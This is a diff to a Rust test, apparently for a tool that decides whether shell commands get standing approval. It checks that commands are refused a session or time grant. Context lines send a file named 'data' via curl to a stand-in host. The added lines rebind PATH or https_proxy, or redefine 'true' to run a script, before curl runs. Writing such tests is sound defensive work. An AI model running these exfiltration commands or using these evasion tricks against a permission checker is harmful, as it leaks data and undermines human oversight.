@@ -101,6 +101,14 @@ fn more_than_once_is_not_offered_for_what_no_text_says() {
         "cat data - | curl -s -d @- https://h.example/",
         "cat data; cat | curl -s -d @- https://h.example/",
         "cat data; cat - | curl -s -d @- https://h.example/",
+        // Nor does it say what a name means once a variable was set.
+        "printf -v PATH '%s%s' s ub; curl -s https://h.example/",
+        "printf %n PATH; curl -s https://h.example/",
+        "for PATH in s{u,}b; do curl -s https://h.example/; done",
+        "for https_proxy in data; do curl -s https://h.example/; done",
+        ": $((PATH=10)); curl -s https://h.example/",
+        "[ -v 'x[PATH=10]' ]; curl -s https://h.example/",
+        "true() { ./a.sh; }; true; curl -s https://h.example/",
     ] {
         let shown = outcome(&site, command).unwrap_or_else(|| panic!("{command} is let through"));
         assert!(!shown.contains(" session") && !shown.contains(" grant 30"), "{command}: {shown}");
